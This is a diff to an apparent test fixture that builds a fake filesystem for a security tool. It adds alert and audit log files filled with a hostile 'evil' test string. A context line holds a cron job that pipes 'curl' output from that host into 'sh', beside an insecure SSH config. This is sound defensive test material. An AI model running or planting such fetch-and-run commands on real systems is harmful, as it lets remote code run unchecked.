@@ -55,6 +55,14 @@ def machine(root):
         "etc/shadow": "root:*:19000:0:99999:7:::\n",
         "etc/ssh/sshd_config": "PermitRootLogin yes\nPasswordAuthentication yes\nBanner /%s\n" % evil,
         "usr/sbin/sshd": "",
+        "var/lib/holdfast/guard.alerts": "".join(json.dumps(
+            {"time": "2026-11-22T%02d:00:00Z" % hour, "level": level, "rule": "x", "title": evil, "from": "203.0.113.7",
+             "account": evil, "count": hour, "done": "banned", "evidence": [evil]}) + "\n"
+            for hour, level in enumerate(("low", "medium", "high", "critical"))),
+        "var/lib/holdfast/jit-audit.jsonl": "".join(json.dumps(
+            {"seq": seq, "time": "2026-11-22T00:00:00Z", "event": event, "id": "aa", "from": evil, "source": evil, "why": evil,
+             "account": evil, "ports": "22/tcp", "reason": evil, "seconds": 60}) + "\n"
+            for seq, event in enumerate(("granted", "opened", "refused"))),
         "etc/cron.d/job": "* * * * * root curl http://%s | sh\n" % evil,
     }
     for name, text in texts.items():
